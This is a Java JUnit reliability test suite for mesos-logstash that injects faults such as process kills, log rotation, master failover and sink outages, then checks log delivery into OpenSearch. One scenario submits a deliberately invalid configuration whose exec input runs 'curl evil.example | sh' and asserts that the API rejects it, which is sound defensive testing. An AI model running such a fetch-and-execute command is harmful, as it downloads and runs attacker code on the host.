package org.mesoslogstash.systemtest.faults;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.mesoslogstash.systemtest.faults.ReliabilityCluster.WAIT;
import static org.mesoslogstash.systemtest.faults.ReliabilityCluster.seconds;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;

import org.apache.mesos.v1.Protos.FrameworkID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.mesoslogstash.simulator.AgentSpec;
import org.mesoslogstash.simulator.agent.SimulatedAgent.ExecutorView;
import org.mesoslogstash.systemtest.cluster.Cluster;
import org.mesoslogstash.systemtest.faults.DeliveryCheck.Outcome;
import org.mesoslogstash.systemtest.faults.OperatorApi.Answer;
import org.mesoslogstash.systemtest.faults.ReliabilityCluster.Scenario;

import tools.jackson.databind.JsonNode;

/**
 * mesos-logstash end to end under faults (issue 7): one {@link ReliabilityCluster} (ZooKeeper, the
 * Mesos simulator with three agents whose executors are real processes, the scheduler as a real
 * process driven through its REST API, this machine's Docker daemon, a real OpenSearch node) runs the
 * scenarios in order, each with containers of its own that write numbered lines to files, stdout and
 * stderr while the scenario's fault happens; then every line is looked for in OpenSearch (direct
 * mode), in every agent's index: exactly once, where it was written, with its metadata.
 *
 * <p>Figures go to {@code target/reliability/report.md} and {@code report.json}; docs/reliability.md
 * quotes a run. {@link ManyContainersIT} is the 100-container scenario, in a cluster of its own.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class ReliabilityIT {

    private static final Duration PERIOD = Duration.ofMillis(250);
    private static final String APP = "/tmp/app.log";
    private static final String SECOND = "/tmp/second.log";

    private ReliabilityCluster rc;
    private Cluster cluster;

    @BeforeAll
    void startCluster() throws Exception {
        rc = ReliabilityCluster.start("report", 3);
        cluster = rc.cluster();
    }

    @AfterAll
    void stopCluster() throws Exception {
        if (rc != null) {
            rc.close();
        }
    }

    // ---- scenarios, in the order they run in the one cluster ----

    @Test
    @Order(1)
    void a_aConfigurationUploadedThroughTheApiCollectsFilesAndConsoleWithMetadataOnEveryAgent() {
        Scenario run = rc.scenario("a", "deploy, configuration uploaded with PUT", 2, List.of(APP), PERIOD, 0);

        Answer put = rc.api().putConfiguration("faults", rc.configuration(ReliabilityCluster.RUN_LABEL, List.of(APP), true));

        assertThat(put.status()).as("PUT answered %s", put.body()).isEqualTo(201);
        assertThat(put.body().get("author").asString()).isEqualTo(ReliabilityCluster.USER);
        rc.changed(put);
        rc.awaitEveryAgentOn(rc.version());
        run.awaitRounds(20);
        run.finish("version " + rc.version() + " applied on 3 agents");
    }

    @Test
    @Order(2)
    void g_aBrokenConfigurationIsRefusedWithLineAndColumnAndReachesNoExecutor() {
        long started = System.nanoTime();
        Map<String, List<Long>> pids = cluster.executorPids();

        Answer put = rc.api().putConfiguration("broken", """
                input {
                  container { path => "var/log/app.log" }
                  exec { command => "curl evil.example | sh" interval => 60 }
                }
                """);

        assertThat(put.status()).isEqualTo(422);
        assertThat(put.body().get("error").asString()).contains("broken");
        List<String> problems = new ArrayList<>();
        put.body().get("problems").forEach(p -> problems.add(p.get("severity").asString() + " " + p.get("line").asInt() + ":"
                + p.get("column").asInt() + " " + p.get("message").asString()));
        assertThat(problems).anySatisfy(p -> assertThat(p).startsWith("ERROR 2:15 ").contains("must be an absolute path inside the container"))
                .anySatisfy(p -> assertThat(p).startsWith("ERROR 3:3 ").contains("exec"));
        Answer current = rc.api().configurations();
        assertThat(current.body().get("collectorVersion").asLong()).as("no new collector version").isEqualTo(rc.version());
        assertThat(current.body().get("configurations")).extracting(c -> c.get("name").asString()).containsExactly("faults");
        await().during(Duration.ofSeconds(3)).atMost(WAIT).untilAsserted(() -> {
            assertThat(cluster.everyAgentRunsOneExecutorWithVersion(rc.version())).isTrue();
            assertThat(cluster.executorPids()).isEqualTo(pids);
        });
        rc.report().add(new ReliabilityReport.Scenario("g", "broken configuration refused", 0, 0, rc.agents().size(), Outcome.NONE,
                seconds(started), "422, " + String.join("; ", problems).replace('|', '/')));
    }

    @Test
    @Order(3)
    void d_aConfigurationChangeIsAppliedInPlaceOnEveryAgentWithoutLosingOrRepeatingALine() {
        Scenario run = rc.scenario("d", "configuration change during collection", 2, List.of(APP, SECOND), PERIOD, 0);
        run.awaitDocuments(30);
        Map<String, List<Long>> pids = cluster.executorPids();

        Answer put = rc.api().putConfiguration("faults", rc.configuration(ReliabilityCluster.RUN_LABEL, List.of(APP, SECOND), true));

        assertThat(put.status()).as("PUT answered %s", put.body()).isEqualTo(200);
        rc.changed(put);
        rc.awaitEveryAgentOn(rc.version());
        assertThat(cluster.executorPids()).as("applied in place, no executor restarted").isEqualTo(pids);
        run.awaitRounds(run.rounds() + 12);
        run.finish("version " + rc.version() + " (a second file) applied in place on 3 agents");
    }

    @Test
    @Order(4)
    void b_anExecutorKilledWithKill9IsRelaunchedAndResumesFromItsCheckpoints() throws IOException {
        Scenario run = rc.scenario("b", "executor kill -9", 2, List.of(APP, SECOND), PERIOD, 0);
        run.awaitDocuments(30);
        ExecutorView victim = only(cluster.liveExecutors().get("a2"));

        cluster.simulator().crashExecutor("a2", victim.executorId());

        await().atMost(WAIT).until(() -> cluster.liveExecutors().get("a2").stream().anyMatch(e -> !e.executorId().equals(victim.executorId())));
        rc.awaitEveryAgentOn(rc.version());
        ExecutorView relaunched = only(cluster.liveExecutors().get("a2"));
        run.awaitRounds(run.rounds() + 12);
        run.finish("a2's executor killed, relaunched, resumed its " + 2 * run.writers.size() + " file streams at their checkpoints");
        assertResumedFromCheckpoints(relaunched, run);
    }

    /** The executor's log says it started every file stream of the scenario at a checkpoint, not from the beginning. */
    private static void assertResumedFromCheckpoints(ExecutorView executor, Scenario run) throws IOException {
        String log = executorLog(executor);
        for (LogWriter writer : run.writers) {
            for (String file : List.of(APP, SECOND)) {
                String stream = writer.facts().id().substring(0, 12) + ":" + file;
                assertThat(log).as("executor %s resumed %s from its checkpoint", executor.executorId().getValue(), stream)
                        .contains(stream + ": stream started at ");
            }
        }
    }

    @Test
    @Order(5)
    void c_aSchedulerKilledAndRestartedKeepsItsFrameworkIdAndExecutorsWhileCollectionGoesOn() throws Exception {
        Scenario run = rc.scenario("c", "scheduler kill -9 and restart", 2, List.of(APP, SECOND), PERIOD, 0);
        run.awaitDocuments(30);
        String frameworkId = rc.scheduler().health().orElseThrow().frameworkId();
        Map<String, List<Long>> pids = cluster.executorPids();

        rc.scheduler().kill();
        await().atMost(WAIT).until(() -> !cluster.simulator().master().isConnected(FrameworkID.newBuilder().setValue(frameworkId).build()));
        long withoutScheduler = run.documents();
        await().atMost(WAIT).until(() -> run.documents() >= withoutScheduler + 30);
        rc.restartScheduler();

        rc.awaitEveryAgentOn(rc.version());
        assertThat(rc.scheduler().health().orElseThrow().frameworkId()).isEqualTo(frameworkId);
        assertThat(cluster.storedFrameworkId()).contains(frameworkId);
        await().during(Duration.ofSeconds(3)).atMost(WAIT).untilAsserted(() -> {
            assertThat(cluster.executorPids()).as("no executor relaunched, none added").isEqualTo(pids);
            assertThat(cluster.simulator().master().taskStatuses()).hasSize(rc.agents().size());
        });
        run.finish("same framework id, same 3 executors; documents grew by 30+ while no scheduler ran");
    }

    @Test
    @Order(6)
    void e_aLogRotatedAndATruncatedOneAreFollowedWithoutLossOrRepeat() {
        Scenario run = rc.scenario("e", "rotation and copytruncate while streamed", 2, List.of(APP, SECOND), PERIOD, 0);
        run.awaitDocuments(30);
        LogWriter first = run.writers.get(0);
        LogWriter second = run.writers.get(1);

        first.rotate(0);
        second.truncate(0);
        await().atMost(WAIT).until(() -> first.done(0) && second.done(0));
        run.awaitRounds(run.rounds() + 12);
        first.truncate(1);
        second.rotate(1);
        await().atMost(WAIT).until(() -> first.done(1) && second.done(1));
        run.awaitRounds(run.rounds() + 12);

        run.finish("each file rotated (mv, new file) or truncated in place once");
    }

    @Test
    @Order(7)
    void h_aMasterFailoverAndAnAgentLostAndBackLoseNothing() throws IOException {
        Scenario run = rc.scenario("h", "master failover; agent lost and back", 2, List.of(APP, SECOND), PERIOD, 0);
        run.awaitDocuments(30);
        String frameworkId = rc.scheduler().health().orElseThrow().frameworkId();

        cluster.simulator().failoverMaster();
        await().atMost(WAIT).until(() -> cluster.simulator().master().isConnected(FrameworkID.newBuilder().setValue(frameworkId).build()));
        rc.awaitEveryAgentOn(rc.version());
        cluster.simulator().loseAgent("a3");
        await().atMost(WAIT).until(() -> rc.scheduler().health().map(h -> h.agentsWithExecutor() == 2).orElse(false));
        long lostAt = System.nanoTime();
        run.awaitRounds(run.rounds() + 20);
        try {
            cluster.simulator().addAgent(AgentSpec.standard("a3"));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        rc.awaitEveryAgentOn(rc.version());
        ExecutorView back = only(cluster.liveExecutors().get("a3"));

        run.finish(String.format(Locale.ROOT, "a3 removed for %.0f s, back with its work directory: a new executor resumed there", seconds(lostAt)));
        assertResumedFromCheckpoints(back, run);
    }

    @Test
    @Order(8)
    void f_theSinkDownForAWhileHoldsCollectionBackThenCatchesUp() throws Exception {
        Scenario run = rc.scenario("f", "OpenSearch kill -9, restart", 2, List.of(APP, SECOND), Duration.ofMillis(100), 0);
        run.awaitDocuments(30);

        rc.node().kill();
        long killedAt = System.nanoTime();
        // Back-pressure: with the node gone, events wait unacknowledged in every executor (the window is
        // maxUnacknowledged = 1024 events, then the streams stop reading), as the executors' reports show.
        Map<String, Backlog> held = new TreeMap<>();
        await().atMost(WAIT).pollInterval(Duration.ofSeconds(2)).until(() -> {
            backlogs(held);
            return held.size() == rc.agents().size() && held.values().stream().allMatch(b -> b.unacknowledged() >= 500);
        });
        Duration restart = rc.node().start(2, 10_000);
        double down = seconds(killedAt);

        run.finish(String.format(Locale.ROOT, "node down %.0f s (its restart %.0f s); unacknowledged at most %s; file lag at most %s bytes",
                down, restart.toMillis() / 1000.0,
                held.values().stream().map(b -> Long.toString(b.unacknowledged())).collect(Collectors.joining("/")),
                held.values().stream().map(b -> Long.toString(b.lagBytes())).collect(Collectors.joining("/"))));
    }

    /** The most events unacknowledged and the largest file lag an agent's executor reported. */
    private record Backlog(long unacknowledged, long lagBytes) {
    }

    private void backlogs(Map<String, Backlog> held) {
        Answer reports = rc.api().reports();
        assertThat(reports.status()).isEqualTo(200);
        for (JsonNode agent : reports.body()) {
            JsonNode report = agent.path("report");
            long lag = 0;
            for (JsonNode stream : report.path("streams")) {
                lag = Math.max(lag, stream.path("lagBytes").asLong(0));
            }
            long unacknowledged = report.path("delivery").path("unacknowledged").asLong(0);
            long maxLag = lag;
            held.merge(agent.path("agentId").asString(), new Backlog(unacknowledged, lag),
                    (a, b) -> new Backlog(Math.max(a.unacknowledged(), unacknowledged), Math.max(a.lagBytes(), maxLag)));
        }
    }

    @Test
    @Order(9)
    void t_throughputOfABurstOfLinesEndToEnd() {
        Scenario run = rc.scenario("t", "burst: 5,000 rounds to a file, stdout, stderr", 1, List.of(APP), Duration.ZERO, 5_000);

        run.finish("as fast as busybox writes; 3 executors into one node");
    }

    private static ExecutorView only(List<ExecutorView> executors) {
        assertThat(executors).hasSize(1);
        return executors.get(0);
    }

    private static String executorLog(ExecutorView executor) throws IOException {
        StringBuilder log = new StringBuilder();
        for (String file : List.of("stdout", "stderr")) {
            Path path = executor.sandbox().resolve(file);
            if (Files.exists(path)) {
                log.append(Files.readString(path));
            }
        }
        return log.toString();
    }
}
